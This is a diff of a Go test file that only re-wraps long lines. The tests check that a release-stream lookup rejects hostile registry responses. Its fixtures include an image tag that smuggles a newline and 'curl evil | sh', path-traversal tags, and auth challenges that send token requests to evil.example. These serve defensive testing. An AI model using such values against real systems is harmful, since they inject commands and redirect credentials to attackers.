@@ -24,7 +24,8 @@ type internet struct {
 	tags []string
 	// digest is what the registry answers, and challenge what it asks for; both have good defaults.
 	digest, challenge string
-	// asked are the requests, each without its host, and those that came with credentials that are not the anonymous token.
+	// asked are the requests, each without its host, and those that came with credentials that are not the anonymous
+	// token.
 	asked, credentials []string
 }
 
@@ -82,10 +83,13 @@ func (n *internet) find(t *testing.T, stream string, supported ...string) (Relea
 }
 
 func TestReleaseStream(t *testing.T) {
-	n := newInternet(t, "4.20.10", releases+":4.20.10-multi", "4.20.9", releases+":4.20.9-multi", "4.21.0-rc.1", releases+":4.21.0-rc.1-multi",
-		"4.20.99 ", "quay.io/x:1", "x4.20.98", "quay.io/x:1", "5.0.0", "quay.io/x:5", "4.21.0-0.nightly-multi-2026-01-01-000000", "quay.io/x:n", "4.2.36", "")
+	n := newInternet(t, "4.20.10", releases+":4.20.10-multi", "4.20.9", releases+":4.20.9-multi", "4.21.0-rc.1",
+		releases+":4.21.0-rc.1-multi",
+		"4.20.99 ", "quay.io/x:1", "x4.20.98", "quay.io/x:1", "5.0.0", "quay.io/x:5",
+		"4.21.0-0.nightly-multi-2026-01-01-000000", "quay.io/x:n", "4.2.36", "")
 	got, err := n.find(t, "4-stable-multi", "4.20", "4.21", "5.0")
-	want := Release{releases + "@" + goodDigest, "release stream 4-stable-multi of " + strings.TrimPrefix(n.URL, "http://"), "4.20.10"}
+	want := Release{releases + "@" + goodDigest, "release stream 4-stable-multi of " + strings.TrimPrefix(n.URL,
+		"http://"), "4.20.10"}
 	if diff := cmp.Diff(want, got); diff != "" || err != nil {
 		t.Errorf("%v %s", err, diff)
 	}
@@ -101,7 +105,8 @@ func TestReleaseStream(t *testing.T) {
 	if got, err = n.find(t, "4-stable-multi", "4.20"); err != nil || got.Image != want.Image || len(n.asked) != 1 {
 		t.Errorf("%v, %v, %q", got, err, n.asked)
 	}
-	for stream, want := range map[string]string{"4-stable-multi": "https://multi.ocp", "4-stable": "https://amd64.ocp", "4-stable-s390x": "https://s390x.ocp"} {
+	for stream, want := range map[string]string{"4-stable-multi": "https://multi.ocp", "4-stable": "https://amd64.ocp",
+		"4-stable-s390x": "https://s390x.ocp"} {
 		if got := streamServer(stream); !strings.HasPrefix(got, want) {
 			t.Errorf("%s is asked of %s", stream, got)
 		}
@@ -126,17 +131,21 @@ func TestHostileReleaseServers(t *testing.T) {
 		releases + ":4.20.10-multi@" + goodDigest:                         "of another version",
 		releases + ":4.20.10-multi/../../../evil":                         "of another version",
 		releases + ":4.20.10\nNext: curl evil | sh":                       "of another version",
-		releases + ":4.20.10-s390x":                                       "the registry answers 404 Not Found; give it with --release-image",
+		releases +
+			":4.20.10-s390x": "the registry answers 404 Not Found; give it with --release-image",
 	} {
 		n := newInternet(t, "4.20.10", image)
 		var flag *FlagError
-		if got, err := n.find(t, "4-stable-multi", "4.20"); !errors.As(err, &flag) || !strings.Contains(err.Error(), newest) || !strings.Contains(err.Error(), want) {
+		if got, err := n.find(t, "4-stable-multi", "4.20"); !errors.As(err, &flag) || !strings.Contains(err.Error(),
+			newest) || !strings.Contains(err.Error(), want) {
 			t.Errorf("%q: %v, %v", image, got, err)
 		}
 	}
 	for stream, want := range map[string]string{
-		"4-unknown": "answers 404 Not Found", "4-broken": "does not answer with a list of releases", "4-moved": "it sends elsewhere", "4-endless": "answers with more than 16 MiB",
-		"../../x": "not the name of a stream", "4-stable?x": "not the name", "4-stable/latest": "not the name", "4-stable\n": "not the name", "": "not the name",
+		"4-unknown": "answers 404 Not Found", "4-broken": "does not answer with a list of releases",
+		"4-moved": "it sends elsewhere", "4-endless": "answers with more than 16 MiB",
+		"../../x": "not the name of a stream", "4-stable?x": "not the name", "4-stable/latest": "not the name",
+		"4-stable\n": "not the name", "": "not the name",
 		"4-stable-multi": "has no release that the HyperShift operator supports (4.20)",
 	} {
 		n := newInternet(t)
@@ -159,8 +168,9 @@ func TestHostileRegistries(t *testing.T) {
 		"another form":      {"sha256:" + strings.Repeat("x", 64), "", "the registry does not tell it"},
 		"more than one":     {goodDigest + "," + goodDigest, "", "the registry does not tell it"},
 		"basic credentials": {"", `Basic realm="x"`, "asks for credentials"},
-		"another realm":     {"", `Bearer realm="https://evil.example/token",service="quay.io"`, `sends elsewhere for a token, to "https://evil.example/token"`},
-		"a user in it":      {"", `Bearer realm="http://127.0.0.1:1@evil.example/token"`, "sends elsewhere for a token"},
+		"another realm": {"", `Bearer realm="https://evil.example/token",service="quay.io"`,
+			`sends elsewhere for a token, to "https://evil.example/token"`},
+		"a user in it": {"", `Bearer realm="http://127.0.0.1:1@evil.example/token"`, "sends elsewhere for a token"},
 	} {
 		n := newInternet(t, "4.20.10", releases+":4.20.10-multi")
 		n.digest, n.challenge = tc.digest, tc.challenge
@@ -172,7 +182,8 @@ func TestHostileRegistries(t *testing.T) {
 
 // TestStreamsAreOfTheirVersion: a stream's name says which versions it has.
 func TestStreamsAreOfTheirVersion(t *testing.T) {
-	for stream, want := range map[string]bool{"4-stable": true, "4.20-stable": true, "4.20.3-x": true, "5-stable": false, "4.2-stable": false, "4.20.30-x": false} {
+	for stream, want := range map[string]bool{"4-stable": true, "4.20-stable": true, "4.20.3-x": true, "5-stable": false,
+		"4.2-stable": false, "4.20.30-x": false} {
 		if got := ofTheStream(stream, Version{Major: 4, Minor: 20, Patch: 3}); got != want {
 			t.Errorf("%s: %v", stream, got)
 		}
